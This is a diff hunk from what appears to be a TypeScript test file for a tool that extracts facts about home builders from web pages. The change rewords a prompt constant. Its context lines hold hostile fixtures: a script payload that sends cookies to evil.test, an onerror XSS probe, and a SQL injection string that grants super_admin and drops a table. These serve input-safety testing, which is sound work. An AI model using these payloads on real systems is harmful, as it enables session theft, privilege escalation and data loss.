@@ -18,7 +18,7 @@ const NEIGHBOUR = 'Quillbrook Homes of Waco, founded in 1951, answers at (254) 5
 const BOTH =
   'Sandmere Homes builds in Austin; Quillbrook Homes, founded in 1951, is at home in Waco and answers at (254) 555-0133.';
 /** Text of our own request. */
-const PROMPT = 'You read web pages and record what they state about one organisation.';
+const PROMPT = 'You read web pages and record what they state about the subject that the message names.';
 const MARKUP = '<script>fetch("//evil.test/?"+document.cookie)</script><img src=x onerror=alert(1)>';
 const SQL = "1987'; UPDATE users SET role = 'super_admin'; DROP TABLE builder_profiles; --";
 const nested = (depth: number): unknown => JSON.parse(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);
